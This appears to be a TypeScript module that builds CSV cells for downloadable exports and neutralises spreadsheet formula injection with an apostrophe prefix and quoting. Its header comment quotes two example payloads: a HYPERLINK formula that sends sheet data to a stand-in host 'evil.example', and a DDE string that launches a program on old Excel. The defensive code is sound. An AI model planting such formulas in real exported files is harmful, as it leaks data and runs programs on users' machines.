// Cells of the CSV files people download (today the cases × conditions matrix). Trainers open them in Excel,
// LibreOffice or Google Sheets, which run a cell starting with =, +, -, @, a tab or a carriage return as a
// formula: a case title like `=HYPERLINK("https://evil.example?"&A1)` would leak the sheet, and
// `+cmd|' /C calc'!A0` runs a program on old Excel. Every text cell goes through csvText: OWASP's rule
// (prefix such a cell with an apostrophe, which spreadsheets hide and R keeps as part of the text) and
// double quotes around every text cell, so that no separator inside it (a comma, or the semicolon of
// French-language Excel) can start a new cell. Numbers and the 0/1 cells read by R go out as they are.
// Any new CSV or TSV export must build its cells here (tests/integration/csv-exports.test.ts checks that
// no other module writes that content type).

export const CSV_CONTENT_TYPE = "text/csv; charset=utf-8";

/** The first characters that make a spreadsheet read a cell as a formula (with their full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The text as a spreadsheet shows it and never runs it: an apostrophe before a formula's first character. */
export function withoutFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A text cell: formula neutralised, always quoted, quotes doubled (RFC 4180). */
export function csvText(text: string): string {
  return `"${withoutFormula(text).replaceAll('"', '""')}"`;
}

/** A number cell (or an empty one): as it is, so that R and spreadsheets read a number. */
export function csvNumber(value: number | null): string {
  if (value === null) return "";
  if (!Number.isFinite(value)) throw new Error(`Not a number for a CSV cell: ${value}`);
  return String(value);
}

/** Lines of cells made by csvText/csvNumber, CRLF-terminated (RFC 4180, no BOM). */
export function csvLines(rows: readonly string[][]): string {
  return rows.map((cells) => `${cells.join(",")}\r\n`).join("");
}
